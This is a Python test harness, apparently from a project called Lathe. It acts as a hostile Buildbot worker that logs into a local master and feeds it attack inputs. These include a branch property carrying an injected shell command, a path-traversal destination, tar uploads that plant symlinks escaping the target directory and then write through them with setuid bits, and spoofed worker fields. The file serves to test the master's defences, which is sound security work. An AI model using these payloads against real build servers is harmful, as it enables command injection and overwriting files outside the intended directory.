#!/usr/bin/python3
"""A hostile Buildbot worker for Lathe's security tests (Debian's Twisted PB, stdlib only).

It logs in with a valid name and password, then attacks the master with what a worker
controls:
  - getWorkerInfo answers with build properties it was never asked for (a `branch` that is
    shell syntax, a `dest` that climbs out of the master's directory, buildnumber, ...);
  - DirectoryUpload: the first upload plants symlinks to OUTSIDE, the next one writes
    through them (esc/x.txt);
  - FileUpload writes wherever the master sends it;
  - every command's updates carry a key no worker command sends.

Usage: /usr/bin/python3 hostile-worker.py PORT NAME PASSWORD OUTSIDE
Prints "attached" once logged in; runs until killed.
"""

import io
import sys
import tarfile

from twisted.cred import credentials
from twisted.internet import defer, reactor
from twisted.spread import pb

PORT, NAME, PASSWORD, OUTSIDE = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]

HOSTILE_INFO = {
    "branch": "main; touch %s/pwned-shell" % OUTSIDE,
    "dest": "../../../../../../../../%s/planted.bin" % OUTSIDE.lstrip("/"),
    "buildnumber": 999,
    "buildername": "not-yours",
    "workername": "someone-else",
    "admin": "mallory",
    "host": "evil-host",
    "version": "3.7.0",
    "worker_commands": {
        "shell": "3.3", "uploadFile": "3.3", "uploadDirectory": "3.3", "downloadFile": "3.3",
    },
    "environ": {},
    "basedir": "/nonexistent",
}


def tar_of(members, compress):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:" + (compress or "")) as tar:
        for name, kind, value in members:
            info = tarfile.TarInfo(name)
            info.mode = 0o6777
            info.uid = 0
            data = None
            if kind == "symlink":
                info.type, info.linkname = tarfile.SYMTYPE, value
            else:
                data = value.encode()
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return out.getvalue()


UPLOADS = [
    # The first build plants links out of the destination...
    [("esc", "symlink", OUTSIDE), ("up", "symlink", "../../../../../../../.." + OUTSIDE)],
    # ... the next one writes through them.
    [("esc/x.txt", "file", "through esc\n"), ("up/y.txt", "file", "through up\n")],
]


class WorkerForBuilder(pb.Referenceable):
    uploads = 0

    def remote_startBuild(self):
        return None

    def remote_interruptCommand(self, stepId, why):
        return None

    def remote_startCommand(self, stepref, stepId, command, args):
        reactor.callLater(0, self.run, stepref, command, args)
        return None

    @defer.inlineCallbacks
    def run(self, stepref, command, args):
        rc = 0
        try:
            yield stepref.callRemote("update", [[{"stdout": "hostile\n", "evil_key": "x" * 1000}, 0]])
            if command == "uploadFile":
                yield args["writer"].callRemote("write", b"planted\n")
                yield args["writer"].callRemote("close")
            elif command == "uploadDirectory":
                tar = tar_of(UPLOADS[min(WorkerForBuilder.uploads, len(UPLOADS) - 1)], args["compress"])
                WorkerForBuilder.uploads += 1
                yield args["writer"].callRemote("write", tar)
                yield args["writer"].callRemote("unpack")
        except Exception as e:  # the master refused: report it as the worker would
            rc = 1
            yield stepref.callRemote("update", [[{"stderr": "master said: %s\n" % e}, 0]])
        yield stepref.callRemote("update", [[{"rc": rc}, 0]])
        yield stepref.callRemote("complete", None)


class Bot(pb.Referenceable):
    def __init__(self):
        self.builders = {}

    def remote_print(self, message):
        return None

    def remote_getWorkerInfo(self):
        return HOSTILE_INFO

    def remote_setBuilderList(self, builders):
        for name, _builddir in builders:
            self.builders.setdefault(name, WorkerForBuilder())
        return {name: self.builders[name] for name, _ in builders}

    def remote_shutdown(self):
        reactor.callLater(0, reactor.stop)
        return None


def main():
    factory = pb.PBClientFactory()
    reactor.connectTCP("127.0.0.1", PORT, factory)
    d = factory.login(credentials.UsernamePassword(NAME.encode(), PASSWORD.encode()), client=Bot())

    def attached(perspective):
        print("attached", flush=True)

    def failed(f):
        print("login failed: %s" % f.getErrorMessage(), flush=True)
        reactor.stop()

    d.addCallbacks(attached, failed)
    reactor.run()


main()
